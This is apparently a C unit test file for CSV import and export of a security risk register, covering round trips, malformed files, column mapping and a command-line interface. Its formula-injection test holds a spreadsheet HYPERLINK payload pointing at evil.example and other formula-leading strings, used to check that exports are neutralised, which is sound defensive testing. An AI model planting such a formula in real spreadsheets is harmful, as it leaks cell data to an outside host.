/* test-csv.c: the risk register as CSV — round trip, formula injection, bad files, the CLI
 * SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <glib/gstdio.h>
#include <string.h>
#include <sys/wait.h>

#include "sg-asset.h"
#include "sg-csv-import.h"
#include "sg-csv.h"
#include "sg-person.h"
#include "sg-risk.h"
#include "sg-sample.h"
#include "sg-store.h"
#include "sg-test-util.h"

static char *
read_file (const char *path)
{
  g_autoptr(GError) error = NULL;
  char *contents = NULL;

  g_file_get_contents (path, &contents, NULL, &error);
  g_assert_no_error (error);
  return contents;
}

static void
add_risk (SgStore    *store,
          const char *ref,
          const char *title)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(SgRecord) risk = g_object_new (SG_TYPE_RISK, "ref", ref, "title", title, NULL);

  sg_store_add (store, risk, &error);
  g_assert_no_error (error);
}

/* A reader nobody here wrote: Python's csv module. Prints rows and a header cell. */
static char *
python_read (const char *csv_path,
             const char *script)
{
  g_autoptr(GError) error = NULL;
  const char *argv[] = { "/usr/bin/python3", "-c", script, csv_path, NULL };
  char *out = NULL;
  int status;

  if (!sg_test_have_program (argv[0], "python3"))
    return NULL;
  g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_STDERR_TO_DEV_NULL, NULL, NULL,
                &out, NULL, &status, &error);
  g_assert_no_error (error);
  g_assert_true (WIFEXITED (status) && WEXITSTATUS (status) == 0);
  return out;
}

/* Export the example register, import it into a new register that has the
 * same assets and people (they are not part of the risk CSV, and an import
 * creates none; controls are seeded), export again: the two files are
 * byte for byte the same. */
static void
test_round_trip (void)
{
  g_autofree char *dir = sg_test_mkdtemp ();
  g_autofree char *sample = g_build_filename (dir, "sample.isms", NULL);
  g_autofree char *fresh = g_build_filename (dir, "fresh.isms", NULL);
  g_autofree char *first = g_build_filename (dir, "first.csv", NULL);
  g_autofree char *second = g_build_filename (dir, "second.csv", NULL);
  g_autofree char *a = NULL;
  g_autofree char *b = NULL;
  g_autofree char *py = NULL;
  g_autofree char *expected = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(SgStore) from = NULL;
  g_autoptr(SgStore) to = NULL;
  SgCsvReport report = { 0 };
  GListModel *assets;
  guint n;

  g_assert_true (sg_sample_create (sample, &error));
  g_assert_no_error (error);
  from = sg_test_open_new (sample);
  n = sg_test_count_risks (from);
  g_assert_cmpuint (n, >=, 35);
  g_assert_true (sg_csv_export_risks (from, first, &error));
  g_assert_no_error (error);

  to = sg_test_open_new (fresh);
  assets = sg_store_get_records (from, SG_TYPE_ASSET);
  for (guint i = 0; i < g_list_model_get_n_items (assets); i++)
    {
      g_autoptr(SgRecord) asset = g_list_model_get_item (assets, i);
      g_autoptr(SgRecord) copy = g_object_new (SG_TYPE_ASSET,
                                               "ref", sg_record_get_ref (asset),
                                               "name", sg_record_peek_string (asset, "name"),
                                               NULL);
      g_assert_true (sg_store_add (to, copy, &error));
    }
  for (guint i = 0; i < g_list_model_get_n_items (sg_store_get_records (from, SG_TYPE_PERSON)); i++)
    {
      g_autoptr(SgRecord) person = g_list_model_get_item (sg_store_get_records (from, SG_TYPE_PERSON), i);

      g_assert_cmpint (sg_store_ensure_person (to, sg_record_peek_string (person, SG_PERSON_NAME), &error), >, 0);
    }

  g_assert_true (sg_csv_import_risks (to, first, FALSE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report.n_imported, ==, n);
  g_assert_cmpuint (report.problems->len, ==, 0);
  sg_csv_report_clear (&report);
  g_assert_true (sg_csv_export_risks (to, second, &error));

  a = read_file (first);
  b = read_file (second);
  g_assert_cmpstr (a, ==, b);
  g_assert_true (g_str_has_prefix (a, "Ref,Title,Description,"));
  g_assert_true (g_str_has_suffix (a, "\r\n"));
  /* The links came back by ref. */
  g_assert_nonnull (strstr (a, "\"A-008, A-009, A-017, A-018\""));

  py = python_read (first,
                    "import csv, sys\n"
                    "rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8'), strict=True))\n"
                    "assert all(len(r) == len(rows[0]) for r in rows)\n"
                    "print(len(rows) - 1, rows[0][1], rows[0].index('Controls'))\n");
  expected = g_strdup_printf ("%u Title 16\n", n);
  if (py != NULL)
    g_assert_cmpstr (py, ==, expected);
  sg_test_rmdir (dir);
}

static void
test_formula_injection (void)
{
  static const char *titles[] = {
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "+1", "-1", "@SUM(A1:A9)", "\tx", "\rx",
    "'=already quoted", "''+two", "'plain", "a = b", "-",
  };
  g_autofree char *dir = sg_test_mkdtemp ();
  g_autofree char *path = g_build_filename (dir, "r.isms", NULL);
  g_autofree char *back = g_build_filename (dir, "back.isms", NULL);
  g_autofree char *csv = g_build_filename (dir, "r.csv", NULL);
  g_autofree char *text = NULL;
  g_autofree char *py = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(SgStore) store = sg_test_open_new (path);
  g_autoptr(SgStore) other = sg_test_open_new (back);
  SgCsvReport report = { 0 };

  for (guint i = 0; i < G_N_ELEMENTS (titles); i++)
    add_risk (store, NULL, titles[i]);
  g_assert_true (sg_csv_export_risks (store, csv, &error));
  text = read_file (csv);
  g_assert_nonnull (strstr (text, "\r\nR-001,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\","));
  g_assert_nonnull (strstr (text, "\r\nR-002,'+1,"));
  g_assert_nonnull (strstr (text, "\r\nR-003,'-1,"));
  g_assert_nonnull (strstr (text, "\r\nR-004,'@SUM(A1:A9),"));
  g_assert_nonnull (strstr (text, "\r\nR-005,'\tx,"));
  g_assert_nonnull (strstr (text, "\r\nR-006,\"'\rx\","));
  g_assert_nonnull (strstr (text, "\r\nR-007,''=already quoted,"));
  g_assert_nonnull (strstr (text, "\r\nR-009,'plain,"));
  g_assert_nonnull (strstr (text, "\r\nR-010,a = b,"));

  /* What a spreadsheet sees: no cell starts with a formula character. */
  py = python_read (csv,
                    "import csv, sys\n"
                    "rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8'), strict=True))\n"
                    "bad = [c for r in rows for c in r if c[:1] in ('=', '+', '-', '@', '\\t', '\\r')]\n"
                    "print(len(rows) - 1, len(bad))\n");
  if (py != NULL)
    g_assert_cmpstr (py, ==, "11 0\n");

  g_assert_true (sg_csv_import_risks (other, csv, FALSE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report.n_imported, ==, G_N_ELEMENTS (titles));
  sg_csv_report_clear (&report);
  for (guint i = 0; i < G_N_ELEMENTS (titles); i++)
    {
      g_autofree char *ref = g_strdup_printf ("R-%03u", i + 1);
      SgRecord *risk = sg_store_find_by_ref (other, SG_TYPE_RISK, ref);

      g_assert_nonnull (risk);
      g_assert_cmpstr (sg_record_peek_string (risk, "title"), ==, titles[i]);
    }
  sg_test_rmdir (dir);
}

typedef struct
{
  const char *name;
  const char *contents;
  gssize      length;
  int         code;
  const char *message;       /* in the error */
  guint       problem_line;  /* for SG_CSV_ERROR_INVALID_ROWS */
  const char *problem;
} BadFile;

/* Every bad file is refused with a clear message, and the register's
 * bytes stay exactly as they were. */
static void
test_bad_files (void)
{
  static const BadFile bad[] = {
    { "unterminated", "Title,Owner\r\nA,Jana\r\n\"B, never closed,Tom\r\n", -1,
      SG_CSV_ERROR_SYNTAX, "Line 3: a quoted field is never closed", 0, NULL },
    { "stray-quote", "Title\r\nsay \"hi\"\r\n", -1,
      SG_CSV_ERROR_SYNTAX, "Line 2: a quote", 0, NULL },
    { "broken-utf16", "\xff\xfeT\0i\0t", 7,
      SG_CSV_ERROR_ENCODING, "starts like UTF-16 text but is not valid UTF-16", 0, NULL },
    { "empty", "", 0, SG_CSV_ERROR_EMPTY, "The file is empty.", 0, NULL },
    { "blank-lines", "\r\n\r\n", -1, SG_CSV_ERROR_EMPTY, "The file is empty.", 0, NULL },
    { "header-only", "Title,Owner\r\n", -1, SG_CSV_ERROR_NO_ROWS, "no rows", 0, NULL },
    { "nul", "Title\r\nA\r\nB\0C\r\n", 13, SG_CSV_ERROR_ENCODING, "Line 3 holds a NUL byte", 0, NULL },
    { "ref-in-register", "Ref,Title\r\nR-900,New\r\nR-001,Old\r\n", -1,
      SG_CSV_ERROR_INVALID_ROWS, "1 row is invalid", 3, "ref R-001 is already in the register" },
    { "ref-twice", "Risk ID,Risk\r\nR-500,A\r\n\"R-500\",B\r\n", -1,
      SG_CSV_ERROR_INVALID_ROWS, "1 row is invalid", 3, "ref R-500 is already used on line 2" },
    { "bad-date", "Title,Due Date\r\nA,31.02.2027\r\n", -1,
      SG_CSV_ERROR_INVALID_ROWS, "1 row is invalid", 2, "“31.02.2027” is not a date" },
    { "no-title", "Title,Owner\r\n,Jana\r\n", -1,
      SG_CSV_ERROR_INVALID_ROWS, "1 row is invalid", 2, "“Title” is empty" },
    { "too-many-fields", "Title\r\nA,B\r\n", -1,
      SG_CSV_ERROR_INVALID_ROWS, "1 row is invalid", 2, "the row has 2 fields but the header has 1" },
  };
  g_autofree char *dir = sg_test_mkdtemp ();
  g_autofree char *path = g_build_filename (dir, "r.isms", NULL);
  g_autofree char *csv = g_build_filename (dir, "in.csv", NULL);
  g_autofree char *before = NULL;
  g_autoptr(SgStore) store = sg_test_open_new (path);

  add_risk (store, NULL, "Existing risk");
  g_clear_object (&store);
  before = sg_test_checksum (path);

  for (guint i = 0; i < G_N_ELEMENTS (bad) + 1; i++)
    {
      g_autoptr(GError) error = NULL;
      g_autofree char *after = NULL;
      SgCsvReport report = { 0 };
      const BadFile *b = i < G_N_ELEMENTS (bad) ? &bad[i] : NULL;
      int code = b != NULL ? b->code : SG_CSV_ERROR_TOO_LARGE;

      if (b != NULL)
        sg_test_write_file (csv, b->contents, b->length);
      else
        {
          /* A field over 1 MiB fails the whole import. */
          g_autoptr(GString) big = g_string_new ("Title,Description\r\nA,\"");
          for (guint k = 0; k < 1024 * 1024 / 8 + 1; k++)
            g_string_append (big, "xxxxxxxx");
          g_string_append (big, "\"\r\n");
          sg_test_write_file (csv, big->str, big->len);
        }

      g_test_message ("%s", b ? b->name : "1-MiB field");
      store = sg_test_open_new (path);
      g_assert_false (sg_csv_import_risks (store, csv, b == NULL || b->problem == NULL,
                                           &report, &error));
      g_assert_error (error, SG_CSV_ERROR, code);
      g_assert_nonnull (strstr (error->message, b ? b->message : "Line 2: a field is longer than 1 MiB"));
      g_assert_cmpuint (report.n_imported, ==, 0);
      if (b != NULL && b->problem != NULL)
        {
          SgCsvProblem *problem;

          g_assert_cmpuint (report.problems->len, ==, 1);
          problem = g_ptr_array_index (report.problems, 0);
          g_assert_cmpuint (problem->line, ==, b->problem_line);
          g_assert_nonnull (strstr (problem->reason, b->problem));
        }
      sg_csv_report_clear (&report);
      g_assert_cmpuint (sg_test_count_risks (store), ==, 1);
      g_clear_object (&store);

      after = sg_test_checksum (path);
      g_assert_cmpstr (before, ==, after);
    }
  sg_test_rmdir (dir);
}

/* Other tools' headers, scale labels, dates, choices, unmapped columns. */
static void
test_mapping (void)
{
  g_autofree char *dir = sg_test_mkdtemp ();
  g_autofree char *path = g_build_filename (dir, "r.isms", NULL);
  g_autofree char *csv = g_build_filename (dir, "in.csv", NULL);
  g_autoptr(GError) error = NULL;
  g_autoptr(SgStore) store = sg_test_open_new (path);
  SgCsvReport report = { 0 };
  SgRecord *risk;
  GVariant *controls;

  add_risk (store, NULL, "Existing risk");
  g_assert_cmpint (sg_store_ensure_person (store, "Jana", &error), >, 0);
  sg_test_write_file (csv,
                      "\xEF\xBB\xBF Risk Title ,PROBABILITY,Severity,Response,Target Date,Review Date,"
                      "status,Controls,Harms integrity,Source,Risk Owner\r\n"
                      "Laptop theft,Likely,major,mitigate,31.03.2027,03/31/2027,In treatment,\"5.1, 8.7\",yes,Workshop 2026,Jana\r\n"
                      "Flood, 1 ,5,Accept,04/03/2027,2027-06-30 ,accepted,,No,,\r\n"
                      "Off the scale,9,1,,,,,,,,\r\n",
                      -1);
  g_assert_true (sg_csv_import_risks (store, csv, TRUE, &report, &error));
  g_assert_no_error (error);
  /* A rating off the scale is no reason to refuse the row: the rating is
   * left empty and the value kept in the notes. */
  g_assert_cmpuint (report.n_imported, ==, 3);
  g_assert_cmpuint (report.problems->len, ==, 0);
  sg_csv_report_clear (&report);
  risk = sg_store_find_by_ref (store, SG_TYPE_RISK, "R-004");
  g_assert_nonnull (risk);
  g_assert_cmpint (sg_record_peek_int (risk, "inherent-likelihood"), ==, 0);
  g_assert_cmpstr (sg_record_peek_string (risk, "notes"), ==, "PROBABILITY: 9");

  risk = sg_store_find_by_ref (store, SG_TYPE_RISK, "R-002");
  g_assert_nonnull (risk);
  g_assert_cmpstr (sg_record_peek_string (risk, "title"), ==, "Laptop theft");
  g_assert_cmpstr (sg_store_peek_name (store, risk, "owner"), ==, "Jana");
  g_assert_cmpint (sg_record_peek_int (risk, "inherent-likelihood"), ==, 4);
  g_assert_cmpint (sg_record_peek_int (risk, "inherent-impact"), ==, 4);
  g_assert_cmpint (sg_record_peek_enum (risk, "treatment"), ==, SG_TREATMENT_MITIGATE);
  g_assert_cmpint (sg_record_peek_enum (risk, "status"), ==, SG_RISK_STATUS_TREATMENT);
  g_assert_cmpstr (sg_record_peek_string (risk, "treatment-due"), ==, "2027-03-31");
  g_assert_cmpstr (sg_record_peek_string (risk, "next-review"), ==, "2027-03-31");
  g_assert_true (sg_record_peek_boolean (risk, "harms-integrity"));
  g_assert_cmpstr (sg_record_peek_string (risk, "notes"), ==, "Source: Workshop 2026");
  controls = sg_record_peek_links (risk, "controls");
  g_assert_nonnull (controls);
  g_assert_cmpuint (g_variant_n_children (controls), ==, 2);

  risk = sg_store_find_by_ref (store, SG_TYPE_RISK, "R-003");
  g_assert_nonnull (risk);
  g_assert_cmpstr (sg_record_peek_string (risk, "title"), ==, "Flood");
  g_assert_cmpint (sg_record_peek_int (risk, "inherent-likelihood"), ==, 1);
  g_assert_cmpstr (sg_record_peek_string (risk, "next-review"), ==, "2027-06-30");
  /* Ambiguous a/b/yyyy is day-first. */
  g_assert_cmpstr (sg_record_peek_string (risk, "treatment-due"), ==, "2027-03-04");
  g_assert_cmpint (sg_record_peek_enum (risk, "treatment"), ==, SG_TREATMENT_ACCEPT);
  g_assert_cmpint (sg_record_peek_enum (risk, "status"), ==, SG_RISK_STATUS_ACCEPTED);
  g_assert_false (sg_record_peek_boolean (risk, "harms-integrity"));
  g_assert_null (sg_record_peek_string (risk, "notes"));
  g_assert_cmpuint (sg_test_count_risks (store), ==, 4);
  sg_test_rmdir (dir);
}

/* What the import dialog does: look at the columns, remap one, import. */
static void
test_remapping (void)
{
  g_autofree char *dir = sg_test_mkdtemp ();
  g_autofree char *path = g_build_filename (dir, "r.isms", NULL);
  g_autofree char *csv = g_build_filename (dir, "in.csv", NULL);
  g_autoptr(GError) error = NULL;
  g_autoptr(SgStore) store = sg_test_open_new (path);
  g_autoptr(SgCsvImport) import = NULL;
  g_autoptr(SgRecordClass) klass = g_type_class_ref (SG_TYPE_RISK);
  GParamSpec *owner = sg_record_class_find_field (klass, "owner");
  GParamSpec *title = sg_record_class_find_field (klass, "title");
  SgCsvReport report = { 0 };
  SgRecord *risk;

  g_assert_cmpint (sg_store_ensure_person (store, "Jana", &error), >, 0);
  sg_test_write_file (csv,
                      "Risk,Custodian,Probability\n"
                      "Laptop theft,Jana,2\n"
                      "Flood,Tom,7\n",
                      -1);
  import = sg_csv_import_new (store, SG_TYPE_RISK, csv, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (sg_csv_import_get_n_columns (import), ==, 3);
  g_assert_cmpuint (sg_csv_import_get_n_rows (import), ==, 2);
  g_assert_cmpstr (sg_csv_import_get_header (import, 1), ==, "Custodian");
  g_assert_cmpstr (sg_csv_import_get_cell (import, 1, 0), ==, "Flood");
  g_assert_true (sg_csv_import_get_field (import, 0) == title);
  /* "Custodian" is no name we know: its text would go to the notes. */
  g_assert_null (sg_csv_import_get_field (import, 1));

  /* Likelihood 7 is off the 1–5 scale: no reason to refuse the row, its
   * likelihood is left empty and the 7 kept in the notes, as the summary says. */
  g_assert_cmpuint (sg_csv_import_check (import, &report), ==, 2);
  g_assert_cmpuint (report.problems->len, ==, 0);
  g_assert_nonnull (report.notes);
  g_assert_cmpuint (report.notes->len, ==, 1);
  g_assert_cmpstr (g_ptr_array_index (report.notes, 0), ==,
                   "“Probability”: “7” (1 row) has no match: the field is left empty and the value kept in the notes.");

  /* Mapping the column as the owner; mapping the title elsewhere takes it
   * from the column that had it. */
  sg_csv_import_set_field (import, 1, owner);
  g_assert_true (sg_csv_import_get_field (import, 1) == owner);
  sg_csv_import_set_field (import, 2, title);
  g_assert_null (sg_csv_import_get_field (import, 0));
  sg_csv_import_set_field (import, 2, NULL);
  sg_csv_import_set_field (import, 0, title);
  g_assert_cmpuint (sg_csv_import_check (import, &report), ==, 2);
  g_assert_cmpuint (report.problems->len, ==, 0);

  g_assert_true (sg_csv_import_run (import, FALSE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report.n_imported, ==, 2);
  sg_csv_report_clear (&report);
  risk = sg_store_find_by_ref (store, SG_TYPE_RISK, "R-001");
  g_assert_nonnull (risk);
  g_assert_cmpstr (sg_store_peek_name (store, risk, "owner"), ==, "Jana");
  /* The likelihood column went to the notes. */
  g_assert_cmpstr (sg_record_peek_string (risk, "notes"), ==, "Probability: 2");
  g_assert_cmpuint (sg_test_count_risks (store), ==, 2);

  /* A second run adds nothing twice. */
  g_assert_true (sg_csv_import_run (import, FALSE, &report, &error));
  g_assert_cmpuint (report.n_imported, ==, 0);
  g_assert_cmpuint (sg_test_count_risks (store), ==, 2);
  sg_csv_report_clear (&report);
  sg_test_rmdir (dir);
}

static guint
count_lines (const char *text)
{
  guint n = 0;

  for (; *text; text++)
    n += *text == '\n';
  return n;
}

static void
test_cli (void)
{
  g_autofree char *dir = sg_test_mkdtemp ();
  g_autofree char *path = g_build_filename (dir, "register.isms", NULL);
  g_autofree char *missing = g_build_filename (dir, "missing.isms", NULL);
  g_autofree char *csv = g_build_filename (dir, "in.csv", NULL);
  g_autofree char *out = g_build_filename (dir, "out.csv", NULL);
  g_autofree char *import_arg = g_strdup_printf ("--import-csv=%s", csv);
  g_autofree char *export_arg = g_strdup_printf ("--export-csv=%s", out);
  g_autofree char *before = NULL;
  g_autofree char *after = NULL;
  g_autofree char *exported = NULL;
  g_autoptr(SgStore) store = sg_test_open_new (path);
  SgTestRun run = { 0 };

  g_clear_object (&store);
  before = sg_test_checksum (path);

  sg_test_write_file (csv,
                      "Ref,Title,Likelihood,Due Date\r\n"
                      "R-010,Good one,2,2027-01-31\r\n"
                      "R-011,Off the scale,7,\r\n"
                      "R-012,Good two,,\r\n"
                      "R-013,Bad date,1,2027-13-01\r\n",
                      -1);
  sg_test_run_safeguard (&run, import_arg, path, NULL);
  g_assert_cmpint (run.status, ==, 1);
  g_assert_null (strstr (run.out, "Imported"));
  g_assert_cmpstr (run.err, ==,
                   "safeguard: line 5: “2027-13-01” is not a date for “Treatment due” (use 2027-03-31 or 31.03.2027)\n");
  sg_test_run_clear (&run);
  after = sg_test_checksum (path);
  g_assert_cmpstr (before, ==, after);

  sg_test_run_safeguard (&run, import_arg, "--skip-invalid", path, NULL);
  g_assert_cmpint (run.status, ==, 0);
  g_assert_nonnull (strstr (run.out, "  7 → kept in the notes (1 row)\n"));
  g_assert_nonnull (strstr (run.out, "Imported 3 risks into register.isms.\n"));
  g_assert_cmpuint (count_lines (run.err), ==, 1);
  sg_test_run_clear (&run);

  sg_test_run_safeguard (&run, export_arg, path, NULL);
  g_assert_cmpint (run.status, ==, 0);
  sg_test_run_clear (&run);
  exported = read_file (out);
  g_assert_nonnull (strstr (exported, "\r\nR-010,Good one,"));
  g_assert_nonnull (strstr (exported, "\r\nR-012,Good two,"));
  g_assert_nonnull (strstr (exported, "\r\nR-011,Off the scale,"));
  g_assert_null (strstr (exported, "R-013"));

  /* A failing import into a missing register leaves no file behind. */
  sg_test_run_safeguard (&run, import_arg, missing, NULL);
  g_assert_cmpint (run.status, ==, 1);
  sg_test_run_clear (&run);
  g_assert_false (g_file_test (missing, G_FILE_TEST_EXISTS));

  /* A good import creates it. */
  sg_test_write_file (csv, "Title\r\nOnly risk\r\n", -1);
  sg_test_run_safeguard (&run, import_arg, missing, NULL);
  g_assert_cmpint (run.status, ==, 0);
  g_assert_cmpstr (run.out, ==, "Imported 1 risk into missing.isms.\n");
  g_assert_cmpstr (run.err, ==, "");
  sg_test_run_clear (&run);
  sg_test_run_safeguard (&run, "--check", missing, NULL);
  g_assert_cmpint (run.status, ==, 0);
  g_assert_nonnull (strstr (run.out, "\nrisks: 1\n"));
  sg_test_run_clear (&run);

  /* Exporting a register that does not exist creates nothing. */
  g_unlink (out);
  sg_test_run_safeguard (&run, export_arg, csv, NULL);
  g_assert_cmpint (run.status, ==, 1);
  g_assert_cmpuint (count_lines (run.err), ==, 1);
  sg_test_run_clear (&run);
  g_assert_false (g_file_test (out, G_FILE_TEST_EXISTS));
  sg_test_rmdir (dir);
}

/* Rows come in the file's order; a row without a ref gets one after every
 * ref in the file, even one further down, so no two clash. */
static void
test_order_and_refs (void)
{
  g_autofree char *dir = sg_test_mkdtemp ();
  g_autofree char *path = g_build_filename (dir, "r.isms", NULL);
  g_autofree char *csv = g_build_filename (dir, "in.csv", NULL);
  g_autoptr(SgStore) store = sg_test_open_new (path);
  g_autoptr(GError) error = NULL;
  SgCsvReport report = { 0 };
  const char *expected[][2] = { { "R-051", "First, no ref" }, { "R-050", "Second, R-050" },
                                { "R-052", "Third, no ref" }, { "R-007", "Fourth, R-007" } };
  GListModel *risks = sg_store_get_records (store, SG_TYPE_RISK);

  sg_test_write_file (csv,
                      "Ref,Title\r\n"
                      ",\"First, no ref\"\r\n"
                      "R-050,\"Second, R-050\"\r\n"
                      ",\"Third, no ref\"\r\n"
                      "R-007,\"Fourth, R-007\"\r\n", -1);
  g_assert_true (sg_csv_import_risks (store, csv, FALSE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report.n_imported, ==, 4);
  sg_csv_report_clear (&report);
  g_assert_cmpuint (g_list_model_get_n_items (risks), ==, 4);
  for (guint i = 0; i < 4; i++)
    {
      g_autoptr(SgRecord) risk = g_list_model_get_item (risks, i);

      g_assert_cmpstr (sg_record_get_ref (risk), ==, expected[i][0]);
      g_assert_cmpstr (sg_record_peek_string (risk, "title"), ==, expected[i][1]);
    }
  g_clear_object (&store);
  sg_test_rmdir (dir);
}

/* Thousands of good rows, then a bad one: rows are added while the rest
 * is checked, and all of them are taken back; the register's file is as
 * it was. With --skip-invalid every good row is there. 12,000 rows: more
 * than an import frees on a thread of its own, so that the sanitizer
 * build sees that thread too. */
static void
test_late_invalid_row (void)
{
  g_autofree char *dir = sg_test_mkdtemp ();
  g_autofree char *path = g_build_filename (dir, "r.isms", NULL);
  g_autofree char *csv = g_build_filename (dir, "in.csv", NULL);
  g_autofree char *before = NULL;
  g_autofree char *after = NULL;
  g_autoptr(GString) text = g_string_new ("Title,Likelihood\r\n");
  g_autoptr(SgStore) store = sg_test_open_new (path);
  g_autoptr(GError) error = NULL;
  SgCsvReport report = { 0 };

  for (guint i = 0; i < 12000; i++)
    g_string_append_printf (text, "Risk %u,%u\r\n", i, i % 5 + 1);
  g_string_append (text, ",3\r\n");
  sg_test_write_file (csv, text->str, (gssize) text->len);
  g_clear_object (&store);
  before = sg_test_checksum (path);

  store = sg_test_open_new (path);
  g_assert_false (sg_csv_import_risks (store, csv, FALSE, &report, &error));
  g_assert_error (error, SG_CSV_ERROR, SG_CSV_ERROR_INVALID_ROWS);
  g_clear_error (&error);
  g_assert_cmpuint (report.n_imported, ==, 0);
  g_assert_cmpuint (report.problems->len, ==, 1);
  g_assert_cmpuint (((SgCsvProblem *) g_ptr_array_index (report.problems, 0))->line, ==, 12002);
  sg_csv_report_clear (&report);
  g_assert_cmpuint (sg_test_count_risks (store), ==, 0);
  g_clear_object (&store);
  after = sg_test_checksum (path);
  g_assert_cmpstr (before, ==, after);

  store = sg_test_open_new (path);
  g_assert_true (sg_csv_import_risks (store, csv, TRUE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report.n_imported, ==, 12000);
  sg_csv_report_clear (&report);
  g_assert_cmpuint (sg_test_count_risks (store), ==, 12000);
  /* The file's cells are freed, or being freed, by now; the risks keep
   * their own text. */
  {
    g_autoptr(SgRecord) last = g_list_model_get_item (sg_store_get_records (store, SG_TYPE_RISK), 11999);

    g_assert_cmpstr (sg_record_peek_string (last, "title"), ==, "Risk 11999");
  }
  g_clear_object (&store);
  sg_test_rmdir (dir);
}

/* Owners are people: a name the directory has is linked, however it is
 * spelled; one it lacks is never created behind the user's back: the
 * risk has no owner, the name stays in its notes and the report lists it
 * once; the export writes names back. A check before the import changes
 * nothing of that. */
static void
test_people (void)
{
  g_autofree char *dir = sg_test_mkdtemp ();
  g_autofree char *path = g_build_filename (dir, "r.isms", NULL);
  g_autofree char *csv = g_build_filename (dir, "in.csv", NULL);
  g_autofree char *out = g_build_filename (dir, "out.csv", NULL);
  g_autofree char *text = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(SgStore) store = sg_test_open_new (path);
  g_autoptr(SgCsvImport) import = NULL;
  SgCsvReport report = { 0 };
  gint64 jana = sg_store_ensure_person (store, "Jana Petersen", &error);
  GListModel *people = sg_store_get_records (store, SG_TYPE_PERSON);

  g_assert_no_error (error);
  sg_test_write_file (csv,
                      "Title,Owner\n"
                      "Laptop theft,JANA  petersen\n"
                      "Flood,Nina Koch\n"
                      "Fire,nina koch\n"
                      "Phishing,\n",
                      -1);
  import = sg_csv_import_new (store, SG_TYPE_RISK, csv, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (sg_csv_import_check (import, &report), ==, 4);
  g_assert_cmpuint (report.problems->len, ==, 0);
  g_assert_true (sg_csv_import_run (import, FALSE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report.n_imported, ==, 4);
  g_assert_cmpuint (report.notes->len, ==, 1);
  g_assert_cmpstr (g_ptr_array_index (report.notes, 0), ==,
                   "“Owner”: 2 names are not in the register; they were kept in the notes: “Nina Koch”, “nina koch”.");
  sg_csv_report_clear (&report);

  g_assert_cmpuint (g_list_model_get_n_items (people), ==, 1);
  g_assert_cmpint (sg_record_peek_int64 (sg_store_find_by_ref (store, SG_TYPE_RISK, "R-001"), "owner"), ==, jana);
  g_assert_cmpint (sg_record_peek_int64 (sg_store_find_by_ref (store, SG_TYPE_RISK, "R-002"), "owner"), ==, 0);
  g_assert_cmpstr (sg_record_peek_string (sg_store_find_by_ref (store, SG_TYPE_RISK, "R-002"), "notes"),
                   ==, "Owner: Nina Koch");
  g_assert_cmpint (sg_record_peek_int64 (sg_store_find_by_ref (store, SG_TYPE_RISK, "R-004"), "owner"), ==, 0);

  g_assert_true (sg_csv_export_risks (store, out, &error));
  g_assert_no_error (error);
  text = read_file (out);
  g_assert_nonnull (strstr (text, "\r\nR-001,Laptop theft,,,Jana Petersen,"));
  g_assert_nonnull (strstr (text, "\r\nR-003,Fire,,,,"));
  sg_test_rmdir (dir);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/csv/round-trip", test_round_trip);
  g_test_add_func ("/csv/people", test_people);
  g_test_add_func ("/csv/formula-injection", test_formula_injection);
  g_test_add_func ("/csv/bad-files", test_bad_files);
  g_test_add_func ("/csv/mapping", test_mapping);
  g_test_add_func ("/csv/remapping", test_remapping);
  g_test_add_func ("/csv/cli", test_cli);
  g_test_add_func ("/csv/order-and-refs", test_order_and_refs);
  g_test_add_func ("/csv/late-invalid-row", test_late_invalid_row);

  return g_test_run ();
}
